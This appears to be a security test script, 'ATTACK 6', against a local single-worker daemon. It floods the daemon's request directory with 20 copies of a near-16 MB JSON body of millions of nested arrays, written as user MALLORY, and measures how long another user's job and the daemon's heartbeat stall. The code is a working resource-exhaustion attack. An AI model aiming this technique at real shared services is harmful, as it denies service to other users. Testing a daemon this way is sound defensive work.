# ATTACK 6: large JSON requests stall the daemon's one thread
from h import *
t=fresh("a6")
with t.daemon("--workers","1") as d:
    main=t.write("bob","good"); t.run(BOB,main); d.settle()
    body=b'{"nbcache":"no","x":['+b",".join([b"[]"]*5500000)+b"]}"
    assert len(body)<16<<20
    b=time.time()
    try: requests.read(body)
    except Exception as e: print("one parse", round(time.time()-b,2), e)
    del b
    def drop(n):
        f=f"{t.store}/v1/requests/{MALLORY}"; os.makedirs(f,exist_ok=True)
        for i in range(n):
            p=f"{f}/.x"; open(p,"wb").write(body); os.rename(p,f"{f}/{i:064x}.{int(time.time()*1000):012x}-{i:016x}.json")
    as_user(MALLORY,lambda: drop(20))
    time.sleep(1)
    m2=t.write("bob","other"); b=time.time()
    maxage=0
    import threading
    done=[]
    th=threading.Thread(target=lambda: done.append(runtime(t,BOB,m2,**daemons.WAITING))); th.start()
    while th.is_alive() and time.time()-b<120:
        hb=d.heartbeat(); maxage=max(maxage,time.time()-hb.get("beat",0)); time.sleep(0.3)
    print("bob took", round(time.time()-b,1), "oldest heartbeat", round(maxage,1), "daemon peak MB", [l for l in open(f"/proc/{d.process.pid}/status") if "VmHWM" in l])
    th.join()
    print(done[0][1].stderr[-300:], d.log[-300:])
    print("left", len(os.listdir(t.store/f"v1/requests/{MALLORY}")))
